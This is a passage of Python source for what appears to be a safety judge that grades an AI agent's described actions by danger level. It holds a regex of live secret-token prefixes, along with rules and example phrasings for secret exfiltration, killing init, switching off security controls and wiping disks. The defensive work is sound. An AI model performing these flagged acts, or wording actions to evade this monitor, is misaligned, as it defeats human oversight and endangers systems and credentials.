    r"^(?:[sr]k_live_|gh[pousr]_|github_pat_|xox[abpr]-|AKIA[0-9A-Z]{4}|glpat-|npm_[A-Za-z0-9]{8})")
_EMAIL = re.compile(r"^[\w.+-]+@[\w-]+(?:\.[\w-]+)+$")


# example.com, example.org, example.net stand in for a real domain (RFC 2606), as a writer's placeholder
# for the company's own: what is done to its DNS zone is done to a live domain, not to an example place.
_DOCUMENTATION_DOMAIN = re.compile(r"(?:^|[./@])example\.(?:com|org|net)\b")


def _is_loopback(raw: str) -> bool:
    """localhost or 127.x, in a host, an address or a URL: this machine itself."""
    host = re.sub(r"^[a-z][a-z0-9+.-]*://", "", raw.lower()).split("/")[0].rsplit("@", 1)[-1].split(":")[0]
    return host in ("localhost", "127.0.0.1", "::1") or host.startswith("127.") or host.endswith(".localhost")


def _is_local(host: str) -> bool:
    host = host.split(":")[0]
    if host in ("localhost", "0.0.0.0") or host.endswith((".local", ".localhost", ".internal", ".test")):
        return True
    try:
        addr = ipaddress.ip_address(host)
    except ValueError:
        return False
    # Explicit ranges: `is_private` also covers the documentation ranges (203.0.113.0/24 …), which
    # stand for public hosts in examples.
    return addr.is_loopback or addr.is_link_local or any(addr in net for net in _LOCAL_NETS)


_LOCAL_NETS = tuple(
    ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "fc00::/7")
)


def _raise(level: DangerLevel, by: int = 1, cap: DangerLevel = L.FORBIDDEN) -> DangerLevel:
    return DangerLevel(min(int(level) + by, int(cap)))


def judge_frame(frame: Frame, ctx: Context) -> list[Finding]:
    """Judge one clause. Returns the findings that explain its level (at least one per verb)."""
    out: list[Finding] = []
    objs = frame.objects
    if Obj.SECRET in objs and frame.name_lists:
        # "adding .env to .gitignore": the secret's name goes into a list of names; nothing is read
        objs = {o: n for o, n in objs.items() if o is not Obj.SECRET}
        objs.setdefault(Obj.CONTAINER, []).extend(frame.name_lists)
    if Obj.SECRET in objs and (_names_only(frame) or _fragment_only(frame)
                               or _withheld(frame, objs[Obj.SECRET])):
        # "listing which secret names exist (no values)", `-o name`, "the trace with tokens masked": the
        # names, or text with the values taken out, never the values
        objs = {o: n for o, n in objs.items() if o is not Obj.SECRET}
    if any(v == "close account" for _, v in frame.verbs) and frame.words & CLOUD_PROVIDERS:
        # "in the Stripe dashboard click 'Close account'": the account the verb names is the provider's
        objs = {**objs, Obj.CLOUD_ACCOUNT: sorted(frame.words & CLOUD_PROVIDERS)}
    held = _held_roles(frame)
    if Obj.ROLE in objs and held and all(n.lower() in held for n in objs[Obj.ROLE]):
        # "into a spreadsheet with its owner": who holds the thing is a field read, not a role given
        objs = {o: n for o, n in objs.items() if o is not Obj.ROLE}
    if Obj.ROLE in objs and _job_served(frame, objs[Obj.ROLE]):
        # "a scorecard for the product designer role": the job a thing is made for; nobody is given access
        objs = {o: n for o, n in objs.items() if o is not Obj.ROLE}
    assigned_off = [w for w in frame.order if _assigns_off(w)]
    if any(a in (Act.DISRUPT, Act.DESTROY) for a, _ in frame.verbs) and not frame.negated:
        # "disable auth on the admin API": the check that a caller is who they say, switched off
        # ("the auth service", "the auth helper": auth only names what kind of thing is acted on)
        order = frame.order
        assigned_off += [w for j, w in enumerate(order) if w in _AUTH_WORDS
                         and (j + 1 == len(order) or order[j + 1] in _AFTER_A_HEAD)]
    if assigned_off:  # "SELINUX=disabled": the setting named is a security control
        objs = {**objs, Obj.SECURITY: [*objs.get(Obj.SECURITY, []), *assigned_off]}
    kinds = set(objs)

    def named(o: Obj) -> str:
        return ", ".join(dict.fromkeys(objs.get(o, ())))  # a kind the words did not name: none

    if frame.dry_run:
        out.append(
            Finding(L.SAFE, f"dry run ({', '.join(frame.dry_run)}): nothing is changed", "hint.dry-run")
        )
        return out
    verbs = frame.verbs
    if Obj.SECURITY in kinds and _switched_off(frame) and not frame.negated:
        # "setting SELINUX=disabled", "turning the firewall off": a setting changed to off disables it
        verbs = [(Act.DISRUPT if a in (Act.CHANGE, Act.EXECUTE) else a, v) for a, v in verbs] or [
            (Act.DISRUPT, "turn off")
        ]
    if kinds & {Obj.DATA, Obj.INFRA} and not kinds & _CODE_KINDS and not frame.paths \
            and not frame.words & _DATA_CODE:
        # "fix the data problem in the database", "fixing things up in the infra": a repair of stored data
        # or of running systems that does not say what is written is as open as "handle it"; fixing code
        # or a file says where the change lands
        verbs = [(Act.VAGUE, v) if a is Act.CHANGE and v in _REPAIR_VERBS else (a, v) for a, v in verbs]
        frame = replace(frame, verbs=verbs)  # the verb judge reads the clause's verbs from the frame
    for act, verb in verbs:
        level, reasons, rule, irrev = _judge_verb(act, verb, frame, ctx, objs, kinds, named)
        wide = whole_reach(act, verb, frame) if L.SAFE < level < L.FORBIDDEN \
            and (ctx.prod or not ctx.nonprod) else None
        if wide:
            # an act that changes something, reaching the whole: a machine, a branch's history, the backups
            level, reasons, rule, irrev = L.FORBIDDEN, f"{reasons}; {wide[0]}", wide[1], True
        out.append(Finding(level, f"'{verb}': {reasons}", rule, irrev, verb))
    for word in frame.negated:
        why = f"'{word}' is negated or hypothetical: not counted as an action"
        out.append(Finding(L.SAFE, why, "hint.negated"))
    return out


_PROPOSING = words("open raise create file submit draft")
_STAGING_VERBS = words("upload sync push copy cp put")
# Copies made out of their source, never into it: "exporting the audit trail to a CSV", "backing up the
# firewall rules" read a control's records and leave the control as it was (where the copy goes is
# judged as any copy's destination); copy, sync, mirror may write into the control's own place
_READ_OUT = words("export backup unload dump")
_BUILT = words("built compiled bundled minified build compile bundle minify")
_BUCKETS = words("bucket buckets container blob storage")
_STORAGE_SCHEMES = ("s3://", "gs://", "az://", "r2://", "azblob://")
_NONPROD_PLACE = re.compile(r"(?:^|[-_./:])(?:ci|preview|previews|staging|stage|dev|test|tmp|scratch|pr-?\d+)"
                            r"(?:$|[-_./])")


def _build_output_staged(act: Act, frame: Frame, ctx: Context, objs: Mapping[Obj, list[str]]) -> str:
    """Where build output is copied, when that is a non-production place of the team's (a preview, CI
    or staging bucket or prefix); "" otherwise. Only build output counts (`./dist`, "build artifacts",
    "the built assets"), never data, secrets or backups, and never with production named."""
    if act not in (Act.EXTERNAL, Act.TRANSFER) or frame.verbs[0][1] not in _STAGING_VERBS or ctx.prod:
        return ""
    if ctx.customer or ctx.sensitive or ctx.untrusted_source:
        return ""
    kinds = set(objs)
    built = Obj.EPHEMERAL in kinds or bool(frame.words & _BUILT)
    holds = {n.lower() for n in objs.get(Obj.DATA, ())} <= _BUCKETS
    # "the compiled docs site": what the build made of the sources, whatever they are
    made = {Obj.EPHEMERAL, Obj.DATA} | (
        {Obj.TEXT, Obj.CODE, Obj.CONTAINER, Obj.INFRA} if frame.words & _BUILT else set())
    if not built or not holds or kinds - made:
        return ""
    sent_to = [w for w in ctx.external_dest if w.lower() != "public"]
    if not all(_NONPROD_PLACE.search(w.lower()) for w in sent_to):
        return ""  # every place it goes must be a non-production one
    stored = frame.words & _BUCKETS or any(w.lower().startswith(_STORAGE_SCHEMES) for w in sent_to)
    if not stored or frame.words & _MACHINES:
        return ""  # onto a server it is a deploy: what runs there changes (scp to staging pauses)
    return ", ".join(dict.fromkeys([*ctx.nonprod, *sent_to]))
_VIEWS = words("dashboard dashboards view views panel panels chart charts graph graphs explore grafana "
               "kibana")
_VIEW_SETTINGS = words("filter filters range timeframe time-range zoom sort")


_OWN_PLACE = words("my own local")
_VERBOSITY = words("debug debugging verbose verbosity trace tracing")
_PRINTED = words("logging log logs output mode level")
# records others rely on, and what watches: switching these off is judged as a control lost
_WATCHED = words("audit auditing access security siem alert alerts alerting monitoring guard request "
                 "requests compliance error errors")


_BRANCH_MAKING = words("create checkout")


def _makes_branch(frame: Frame) -> bool:
    """The clause's verb is followed, within three words, by "branch": the branch is what is made ("creating
    a new feature branch", "checkout -b"), not where something else is put ("creating the tag on the
    release branch" names the tag first)."""
    order = frame.order
    at = next((i for i, w in enumerate(order) if lemma(w) in _BRANCH_MAKING), None)
    return at is not None and "branch" in order[at + 1:at + 4] and not any(
        OBJ_CLASS.get(lemma(w)) not in (None, Obj.BRANCH) for w in order[at + 1:order.index("branch", at)])


def _verbosity_only(frame: Frame, kinds: set[Obj]) -> bool:
    """The clause switches a program's debug or verbose output, and names no record others rely on."""
    data = {w.lower() for w in frame.objects.get(Obj.DATA, ())}
    return (bool(frame.words & _VERBOSITY and frame.words & _PRINTED) and not frame.words & _WATCHED
            and not kinds & {Obj.SECURITY, Obj.SECRET, Obj.BACKUP} and not data - _PRINTED - {"logging"})


def _view_setting(frame: Frame, kinds: set[Obj]) -> bool:
    """A dashboard's or a view's filters, time range or sort order: what the viewer sees, nothing stored."""
    return bool(frame.words & _VIEWS and frame.words & _VIEW_SETTINGS) and kinds <= {Obj.EPHEMERAL, Obj.TEXT}


_REPAIR_VERBS = words("fix repair correct patch resolve")
# Things whose repair says where the change lands: code, files, text, messages, git history
_CODE_KINDS = frozenset({Obj.CODE, Obj.CODE_PART, Obj.TEXT, Obj.CONTAINER, Obj.MESSAGE, Obj.REPO, Obj.BRANCH})
_DATA_CODE = words("migration migrations query queries model models script scripts sql orm mapping")


_UNLOADED = words("unload")
_SHORTENING = words("lower decrease reduce shorten cut")
_HOW_LONG_KEPT = words("retention expiry expiration ttl lifecycle max-age")


def _judge_verb(act, verb, frame, ctx, objs, kinds, named):
    """The level of one verb in its clause, as (level, explanation, rule id, irreversible)."""
    prod = bool(ctx.prod)
    nonprod = bool(ctx.nonprod) and not prod
    scope = frame.scope_all or frame.bulk_numbers
    why: list[str] = []
    if verb in _SHORTENING and {w.split(".")[0] for w in frame.words} & _HOW_LONG_KEPT:
        # "lowering CloudWatch retention from 90 to 14 days": every record older than the new limit is
        # deleted when it applies, at once and for good
        return L.DESTRUCTIVE, "shortens how long records are kept: those past the new limit are deleted", \
            "hint.retention-cut", True
    if verb in _UNLOADED and Obj.DATA not in kinds:
        # a table unloaded is copied out (Redshift UNLOAD); a kernel module, a plugin or a model unloaded is
        # taken out of what is running, for whoever relies on it
        unloaded = " ".join(frame.order[1:5])
        return L.DESTRUCTIVE, f"unloads what is not named as data ({unloaded}): out of what runs", \
            "hint.disrupt", False
    irrev = False
    rule = f"hint.{act.value}"

    if (verb in _SWITCHING_OFF and frame.words & LINTERS and not ctx.prod and not frame.force
            and kinds <= {Obj.CODE, Obj.CODE_PART, Obj.CONTAINER, Obj.TEXT}):
        # "turning off the eslint no-console rule for scripts/": a checker's setting in the project
        return L.REVERSIBLE, "changes a linter's or type checker's settings in the project", \
            "hint.edit-code", False
    if Obj.WORK in kinds and "history" in frame.words and verb in _HISTORY_VERBS:
        # "rewriting the commit history of main", "squashing the branch history": commits others may
        # have are replaced; the rubric's history rewrite
        return L.DESTRUCTIVE, f"rewrites version-control history ({named(Obj.WORK)})", "hint.history", True
    if verb in TELL_VERBS and _told_principal(frame) and not ctx.external_dest:
        return L.SAFE, "tells the user: what is told is content, nothing leaves", "hint.tell-user", False
    if act in (Act.READ, Act.REVEAL):
        if act is Act.REVEAL and ctx.prod and Obj.DATA in kinds and _schema_only(frame, objs):
            return L.SAFE, "copies the schema only: structure, no rows", "hint.read", False
        if Obj.SECRET in kinds and (act is Act.REVEAL or verb in REVEAL_WORDS) and _into_shared(frame, objs):
            # "echoing $API_KEY into a comment on the public issue": printed where others read it
            why_put = f"writes secret contents ({named(Obj.SECRET)}) where others read them"
            return L.FORBIDDEN, why_put, "hint.exfiltrate-secret", True
        if Obj.SECRET in kinds and (act is Act.REVEAL or verb in REVEAL_WORDS):
            return (
                L.DESTRUCTIVE,
                f"reveals secret contents ({named(Obj.SECRET)}) to the agent",
                "hint.reveal-secret",
                False,
            )
        outside = [d for d in ctx.external_dest if not _BACKUP_STORE.search(d.lower())]
        if act is Act.REVEAL and _takes_backup(verb, frame) and not outside and not frame.public:
            # "taking a pg_dump of the production database into backups/": read, kept, nothing changed
            return L.SAFE, "takes a backup copy: reads the source, changes nothing", "hint.backup", False
        if act is Act.REVEAL and ctx.prod and Obj.DATA in kinds:
            return (
                L.DESTRUCTIVE,
                f"copies production data out ({named(Obj.DATA)})",
                "hint.copy-production",
                False,
            )
        if verb in ANALYSIS_VERBS and not ctx.external_dest and not frame.public and Obj.SECRET not in kinds:
            # "charting weekly CSAT per agent from the export", "working out the variance in a notebook":
            # a figure or a picture made of data already read, kept with the agent; sending it is its
            # own act, judged as such
            return L.SAFE, "works a figure or chart out of what it reads: nothing changes or leaves", \
                "hint.analysis", False
        if ctx.prod and act is Act.READ and kinds and Obj.SECRET not in kinds and not ctx.external_dest \
                and not frame.public:
            # "describing the prod security group", "listing the prod indexes": a read of a named thing
            # changes nothing where it runs, so production (which raises a change) is only where it looks
            # (read_acts.py); a secret read, or what is read sent on, is judged by its own rule
            return L.SAFE, f"only reads, on production ({', '.join(ctx.prod)}): nothing there changes", \
                "hint.read-in-place", False
        return L.SAFE, "only reads", "hint.read", False

    if verb == RESTORED_INTO_NEW and not frame.public and not ctx.external_dest and not scope:
        return L.REVERSIBLE, "restores a backup into a new instance: read, nothing replaced", "hint.change", \
            False
    staged = _build_output_staged(act, frame, ctx, objs)
    if staged:
        # "uploading the built static assets to the preview bucket for PR 431", "syncing build artifacts
        # to s3://acme-ci-artifacts/pr-1432/": what the build made, put where previews and CI keep
        # theirs; nothing of anyone's leaves, and the next build makes it again
        return L.REVERSIBLE, f"stores build output in a non-production place ({staged})", "hint.change", False
    if act is Act.CHANGE and verb in _PROPOSING and _proposal_named(frame.order) and not frame.skip_review:
        # "opening a PR that bumps the prod image tag": a proposal others review; what it changes lands
        # when it is merged, and merging it is judged as its own act
        why_pr = "opens a change for review: nothing lands until it is merged"
        return L.REVERSIBLE, why_pr, "hint.change", False
    if act is Act.CHANGE and verb in _BRANCH_MAKING and _makes_branch(frame) and not prod and not scope \
            and not frame.public and not ctx.external_dest:
        # "creating branch hotfix/tax-rounding off release/3.11": a new name for commits that exist;
        # nothing on the branch it starts from changes, and deleting the new one takes nothing else
        return L.REVERSIBLE, "makes a branch: a new name for existing commits, nothing on them changes", \
            "hint.branch-made", False
    if act in (Act.DISRUPT, Act.CHANGE) and _verbosity_only(frame, kinds) and not prod \
            and (nonprod or frame.paths or frame.words & _OWN_PLACE):
        # "turning off verbose debug logging in the local config": how much a program prints for the one
        # debugging it, not a record anyone relies on (an audit or access log is a control: not this); on
        # machines others share ("the HPC login nodes") it is still a change to their service
        return L.REVERSIBLE, "changes only how much a program prints while debugging", "hint.verbosity", False
    if (act is Act.CHANGE and verb in ENABLING and KEEPING.search(" ".join(frame.order))
            and not _switched_off(frame) and not frame.public and not ctx.external_dest
            and all(a is Act.CHANGE for a, _ in frame.verbs)):
        # "enabling versioning on the prod backup bucket", "turning on point-in-time recovery": every
        # later overwrite or delete keeps a copy to go back to; nothing present changes or leaves
        return L.REVERSIBLE, "switches on keeping copies: more can be restored, nothing is lost", \
            "hint.keeping-on", False
    if act is Act.CHANGE and _view_setting(frame, kinds):
        # "setting the Grafana dashboard filters to env=prod": what the agent is shown changes; env=prod
        # is the value filtered on, not the place an act lands
        return L.SAFE, "changes only what a dashboard or view shows", "hint.read", False
    if (act is Act.PRIVILEGE and verb in PERMISSION_VERBS) or act in (
        Act.CHANGE,
        Act.TRANSFER,
        Act.EXECUTE,
        Act.VAGUE,
    ):
        level = L.REVERSIBLE
    else:
        level = L.DESTRUCTIVE
    if act is Act.CHANGE and (_wide_permissions(frame) or "ownership" in frame.words):
        # "setting 777 permissions on ...", "changing ownership of / to my user": a permission change
        act = Act.PRIVILEGE
    why.append(f"{act.value} action")

    if verb in LOG_KEEPING and not kinds & {Obj.SECRET, Obj.ROLE} and any(
            w.startswith("log") or w.endswith("log") for w in frame.words) and not prod:
        # "rotating the audit logs": every line is kept, moved to an archive file; the logger runs on
        return L.REVERSIBLE, "rotates logs, keeping them", "hint.change", False
    own_process = kinds == {Obj.PROCESS} and not scope and not prod and ctx.self_made
    started = _started_by_agent(frame) or ", ".join(ctx.started)
    # (a draft or a scratch thing of its own is as cheap as a process it started: "killing the duplicate draft
    # campaign I created by mistake ten minutes ago")
    if act is Act.DISRUPT and kinds <= {Obj.PROCESS, Obj.INFRA, Obj.CODE_PART, Obj.DATA, Obj.EPHEMERAL} \
            and not scope and not prod and (ctx.self_made or started):
        # "stopping the docker compose stack I started for the tests": the agent's own, started again
        why_own = f"stops what the agent started ({'; '.join(ctx.self_made) or started})"
        return L.REVERSIBLE, why_own, "hint.change", False
    if verb in ("reformat", "format") and act is Act.DESTROY and Obj.DEVICE not in kinds and not scope \
            and kinds <= {Obj.CONTAINER, Obj.CODE, Obj.CODE_PART, Obj.TEXT}:
        # "the file is being reformatted with black": a formatter rewrites layout, not a disk
        return L.REVERSIBLE, "reformats code (layout only)", "hint.edit-code", False
    if act in (Act.DISRUPT, Act.DESTROY) and own_process:
        # "force-killing the hung watcher I launched earlier": the agent's own process, one of them
        why_own = f"stops a process the agent started ({'; '.join(ctx.self_made)})"
        return L.REVERSIBLE, why_own, "hint.change", False
    if (act is Act.DESTROY and frame.words & _DEPENDENCIES and not prod and not scope
            and not frame.words & _HOST_WIDE
            and not frame.sudo and kinds - frame.located_only <= {Obj.CODE, Obj.CODE_PART, Obj.CONTAINER}
            and not kinds & frame.located_only - {Obj.DATA, Obj.CONTAINER, Obj.CODE}):
        # ("from the project" is where the package goes from, not what is removed)
        # "uninstalling the unused moment package from the frontend": the manifest changes, the lock
        # file and the registry bring it back
        return L.REVERSIBLE, "removes a project dependency: reinstalled from the registry", \
            "hint.edit-code", False
    if (act is Act.DISRUPT and verb in _TOGGLED_OFF and not prod and not scope
            and not kinds & {Obj.SECURITY, Obj.BACKUP, Obj.PAYMENT, Obj.SYSTEM, Obj.DEVICE}
            and not frame.words & _KEPT_RUNNING
            and (nonprod or verb == "cordon" or (verb not in _MOVES_WORK and ctx.bounded))):
        # "silencing DiskFull on db-staging-1 for 2h", "pausing the nightly export DAG", "draining a
        # staging node": switched back on with one command, nothing lost meanwhile
        return L.REVERSIBLE, f"'{verb}' is undone by resuming it", "hint.change", False
    killing = act in (Act.DISRUPT, Act.DESTROY) or verb in _SIGNALS
    if killing and not ctx.contained and _init_or_every_pid(frame):
        # "SIGKILL to PID 1 on the host", "kill -9 -1": init and everything it runs, or every process
        # (in a container, PID 1 is that container's own first process: "to restart the container")
        why_init = "signals PID 1 or every process: the whole machine goes down"
        return L.FORBIDDEN, why_init, "hint.kill-init", True
    own_run = _own_run(frame) if act is Act.DISRUPT and verb in _ENDING else ""
    if own_run and not scope and not prod and kinds <= {Obj.PROCESS, Obj.BRANCH, Obj.CODE_PART, Obj.INFRA}:
        # "cancelling my own stuck workflow run", "kill the node processes left by my jest run": the
        # agent's own run, stopped; it is started again, and only its work in flight is lost
        return L.REVERSIBLE, f"stops the agent's own run ({own_run})", "hint.change", False
    pid = _one_pid(frame)
    if (act is Act.DISRUPT or verb in _SIGNALS) and pid and not scope and not prod \
            and not _shared_machine(frame) \
            and kinds <= {Obj.PROCESS, Obj.CODE_PART, Obj.INFRA, Obj.CONTAINER}:
        # "kill the hung test runner (pid 31337)", "the stuck jest worker, PID 48213": one process, picked
        # by its id whatever the words call it, restartable
        return L.REVERSIBLE, f"stops one process by its id ({pid})", "hint.change", False
    if act is Act.DISRUPT and kinds and kinds <= {Obj.CODE_PART, Obj.CONTAINER} and not scope and not prod \
            and source_files_only(frame.paths):
        # "kill the dead code in legacy/handlers.py": code taken out of a source file is an edit
        edited = ", ".join(t.raw for t in frame.paths) or named(Obj.CODE_PART)
        return L.REVERSIBLE, f"edits code ({edited})", "hint.edit-code", False
    if act is Act.DISRUPT and not kinds and not scope and verb in SELF_HALT \
            and not _halted_named(frame, verb):
        return L.REVERSIBLE, "the agent stops or waits: nothing is acted on", "hint.self-halt", False
    if act in (Act.DESTROY, Act.DISRUPT) and Obj.PAYMENT in kinds and scope and not nonprod:
        why_subs = f"ends every customer's payments ({named(Obj.PAYMENT)}; {', '.join(scope)})"
        return L.FORBIDDEN, why_subs, "hint.production-destroy", True
    if act is Act.DESTROY and kinds == {Obj.DATA} and not scope and not prod and _database_index(frame, objs):
        # "dropping the idx_orders_tmp index on my local database": an index holds no data of its own,
        # CREATE INDEX builds it again from the table (a search engine's index is its data: not this)
        return L.REVERSIBLE, "drops a database index: rebuilt from its table", "hint.change", False
    if (act is Act.DESTROY and Obj.BRANCH in kinds and _one_branch(frame, objs) and ctx.merged
            and not scope and not prod and not frame.words & _ELSEWHERE_BRANCH):
        # "deleting my local branch try/x, it was merged through PR #611": its commits live on in the
        # branch it was merged into, and `git branch -d` refuses a branch that was not
        why_merged = "deletes a local branch already merged: its commits live on"
        return L.REVERSIBLE, why_merged, "hint.change", False
    state = act is Act.DESTROY and _STATE_FILE.search(" ".join(frame.order))
    if act is Act.DESTROY and state:
        return L.DESTRUCTIVE, f"deletes the record of live infrastructure ({state.group(0).strip()})", \
            "hint.destroy", True
    if act is Act.DESTROY and not prod and (kinds or frame.words & THROWAWAY) and not kinds & NEVER_CHEAP:
        cheap = _cheap(frame, ctx, kinds, scope)
        if cheap:
            return L.REVERSIBLE, cheap, "hint.destroy-regenerable", False
    if act is Act.DESTROY:
        hard = kinds - SOFT_OBJECTS
        if kinds == {Obj.CONTAINER} and frame.located_only and not scope and all(
                _names_a_file(t) for t in frame.paths):
            return (
                L.REVERSIBLE,
                f"removes something from a file ({named(Obj.CONTAINER)}): an edit",
                "hint.edit-code",
                False,
            )
        # a project folder named as a target of its own ("package-lock.json and src/"), not only as
        # the place of something cheap ("the stubs in src/gen/"), is not cheap
        own_folder = Obj.CONTAINER in kinds and Obj.CONTAINER not in frame.located_only and any(
            t.obj is Obj.CONTAINER and t.path_class == "project" for t in frame.paths)
        sources = [t for t in frame.paths if t.obj is Obj.CONTAINER]
        # a migration file records what the database went through: removing one is not a code edit
        history = frame.words & {"migration", "migrations"} or any("migration" in t.low for t in sources)
        if (sources and not scope and not prod and not history
                and kinds <= {Obj.CONTAINER, Obj.CODE, Obj.CODE_PART}
                and all(t.low.endswith(SOURCE_SUFFIXES) and t.path_class in ("project", None)
                        for t in sources)):
            # "deleting the unused legacy_helpers.py module": a source file, kept by version control
            return (L.REVERSIBLE, f"deletes source files, restorable from version control "
                    f"({', '.join(t.raw for t in sources)})", "hint.edit-code", False)
        edited = _edited_project_files(frame, ctx, kinds, scope, bool(history))
        if edited:
            # "dropping the unused type definitions from schema.graphql", "deleting Dockerfile.old from
            # the repo": text taken out of tracked project files (or the files themselves), which
            # version control restores; data files and folders of their own are not edits
            return L.REVERSIBLE, f"edits project files, restorable from version control ({edited})", \
                "hint.edit-code", False
        cheap_only = kinds & {Obj.EPHEMERAL, Obj.CODE_PART} and not hard - {Obj.CODE_PART}
        if cheap_only and not prod and not own_folder and not _names_a_shared_place(frame.order):
            if Obj.CODE_PART in kinds and Obj.EPHEMERAL not in kinds:
                return L.REVERSIBLE, f"edits code ({named(Obj.CODE_PART)})", "hint.edit-code", False
            return (
                L.REVERSIBLE,
                f"removes regenerable or temporary things ({named(Obj.EPHEMERAL)})",
                "hint.destroy-regenerable",
                False,
            )
        if not kinds:
            why.append("with no target named")
        else:
            why.append("acts on " + ", ".join(f"{o.value} ({named(o)})" for o in sorted(hard or kinds)))
        irrev = True
    subtree = (
        act is Act.PRIVILEGE
        and verb == "chmod"
        and not _world_writable(frame)
        and bool(kinds & {Obj.SYSTEM, Obj.HOME})
    ) or (
        act is Act.PRIVILEGE
        and kinds & {Obj.SYSTEM, Obj.HOME} == {Obj.SYSTEM}
        and all(t.path_class == "system" for t in frame.paths if t.obj is Obj.SYSTEM)
        and set(objs[Obj.SYSTEM]) <= {t.raw for t in frame.paths}
    )  # "chmod -R 777 /var/www": one service's tree, not the system's own directories
    if subtree:
        level = max(level, L.DANGEROUS)
        why.append(f"changes permissions inside a system directory ({named(Obj.SYSTEM)})")
    elif act is Act.DESTROY and verb in _REPLACING and not scope and _one_service_config(frame, kinds):
        # "Overwriting /etc/nginx/nginx.conf with my generated version": one service's configuration
        # replaced with a known new one, a host change a human confirms; not the system's own files
        level = max(level, L.DANGEROUS)
        why.append(f"replaces one service's configuration file ({named(Obj.SYSTEM)})")
    elif (
        act in (Act.DESTROY, Act.DISRUPT, Act.PRIVILEGE)
        and kinds & {Obj.SYSTEM, Obj.HOME} - frame.located_only
    ) or (act in (Act.DESTROY, Act.PRIVILEGE) and kinds & {Obj.SYSTEM, Obj.HOME} and scope):
        where = named(Obj.SYSTEM) if Obj.SYSTEM in kinds else named(Obj.HOME)
        return (
            L.FORBIDDEN,
            f"targets the system, a home directory or a repository's history ({where})",
            "hint.system-target",
            True,
        )
    if act in (Act.DESTROY, Act.PRIVILEGE) and kinds & {Obj.SYSTEM, Obj.HOME}:
        where = named(Obj.SYSTEM) if Obj.SYSTEM in kinds else named(Obj.HOME)
        level = max(level, L.DANGEROUS)
        why.append(f"inside a system or home directory ({where})")
    if Obj.DEVICE in kinds and Obj.SECRET in kinds and act in (Act.TRANSFER, Act.CHANGE):
        # "copying the prod kubeconfig onto the shared drive": a key on a drive goes wherever the drive goes
        return L.FORBIDDEN, f"puts credentials on a drive others can take or read ({named(Obj.DEVICE)})", \
            "hint.exfiltrate-secret", True
    if Obj.DEVICE in kinds and (act is Act.DESTROY or verb in DEVICE_OVERWRITES):
        return L.FORBIDDEN, f"writes to or erases a disk ({named(Obj.DEVICE)})", "hint.device", True
    if Obj.DEVICE in kinds and act not in (Act.EXECUTE, Act.VAGUE):
        # "resizing its disk", "mounting the data disk": the disk's content stays, a mistake can cost it
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes a disk ({named(Obj.DEVICE)})")
    outside = bool(ctx.external_dest)
    if Obj.SECRET in kinds and act is Act.CHANGE and not outside and (
        # "our real OpenAI key into the example snippet": the example is where a real value goes
        (frame.words & PLACEHOLDERS and not frame.words & _REAL_WORDS)
        or (any(t.low.endswith(_TEMPLATE_SUFFIXES) for t in frame.paths) and not frame.words & _REAL_VALUE)
    ):
        why_tpl = f"a placeholder in a template, not a secret value ({named(Obj.SECRET)})"
        return L.REVERSIBLE, why_tpl, "hint.edit-code", False
    if Obj.SECRET in kinds and act is Act.TRANSFER and not outside and not prod and _from_template(frame):
        # "copying .env.example to .env": the template's placeholders become a local secrets file
        why_from = f"fills a local secrets file from a template ({named(Obj.SECRET)}): no secret is read"
        return L.REVERSIBLE, why_from, "hint.edit-code", False
    if Obj.SECRET in kinds and act is Act.CHANGE and Obj.SECRET in frame.located_only and not outside:
        why_setting = f"writes a setting into a secrets file ({named(Obj.SECRET)})"
        return L.REVERSIBLE, why_setting, "hint.edit-code", False
    if Obj.SECRET in kinds and (
        verb in PROTECTING or (act in (Act.DESTROY, Act.CHANGE) and frame.words & HARDCODED and not outside
                               and verb not in PLACING | _INTO_HISTORY)
    ):
        # masking a token, taking a hardcoded key out of the code: the secret is protected
        return L.REVERSIBLE, f"protects a secret ({named(Obj.SECRET)}): masks it or takes it out of code", \
            "hint.protect-secret", False
    if Obj.SECURITY in kinds and act is Act.EXECUTE and not frame.skip_review:
        why.append(f"runs a security check ({named(Obj.SECURITY)})")  # "running npm audit"

    elif Obj.SECURITY in kinds and not (act in (Act.TRANSFER, Act.REVEAL) and verb in _READ_OUT):
        if act in (Act.DESTROY, Act.DISRUPT) and _only_secret_checks(objs[Obj.SECURITY]):
            # the secret scanner, push protection: a check on what the developer commits or pushes, not a
            # host's or an account's defence; a secret may slip into a commit, which a human weighs
            return (
                L.DESTRUCTIVE,
                f"switches off a check on what is committed or pushed ({named(Obj.SECURITY)})",
                "hint.secret-check-off",
                False,
            )
        narrowed = _narrowed_control(frame, objs[Obj.SECURITY], nonprod, bool(scope or prod))
        if (act in (Act.DESTROY, Act.DISRUPT) or frame.skip_review) and narrowed:
            # "setting SELinux to permissive on the staging app server", "turning off the MFA requirement
            # for the svc-reports account": a host's or a login's check, off where it reaches no
            # production system or only one named account; a human weighs it, and switches it back on
            why_narrow = f"switches off a security control ({named(Obj.SECURITY)}) only {narrowed}"
            return L.DESTRUCTIVE, why_narrow, "hint.security-control-narrow", False
        if (act in (Act.DESTROY, Act.DISRUPT) and nonprod and not frame.skip_review
                and (ctx.bounded or frame.words & _FOR_A_WHILE) and not frame.words & _PERMANENTLY):
            # "temporarily setting SELinux to permissive on my dev VM": a non-production machine's
            # control off for a while, to test; a human confirms and it is switched back on
            why_while = (f"switches off a security control for a while on a non-production machine "
                         f"({named(Obj.SECURITY)}; {', '.join(ctx.nonprod)})")
            return L.DESTRUCTIVE, why_while, "hint.security-control-off", False
        if act in (Act.DESTROY, Act.DISRUPT) or frame.skip_review:
            return (
                L.FORBIDDEN,
                f"switches off or removes a security control ({named(Obj.SECURITY)})",
                "hint.security-control-off",
                True,
            )
        if verb in ENABLING and frame.words & RECORDING and not _switched_off(frame):
            # "enabling CloudTrail log file validation": more is recorded or checked, nothing is blocked
            why_on = f"switches on recording or checking ({named(Obj.SECURITY)}): nothing is blocked or lost"
            return L.REVERSIBLE, why_on, "hint.security-control-on", False
        if (verb in ENABLING | {"enforce", "require"} and frame.words & _LOGIN_FACTORS
                and not _switched_off(frame) and not scope and not prod and not frame.words & _EVERYONES
                and (nonprod or _own_account(frame))):
            # "enabling MFA on my own admin account", "MFA enforcement for the staging AWS accounts": a
            # second factor asked of the agent's own login or of a test environment's; nobody else is
            # locked out
            where = ", ".join(ctx.nonprod) or "the agent's own account"
            why_mfa = f"asks a second factor of logins ({named(Obj.SECURITY)}) only in {where}"
            return L.REVERSIBLE, why_mfa, "hint.security-control-on", False
        opened = _opens_access(frame)
        if opened and prod:
            # "PermitRootLogin yes on the prod hosts": production's login opened to root and passwords
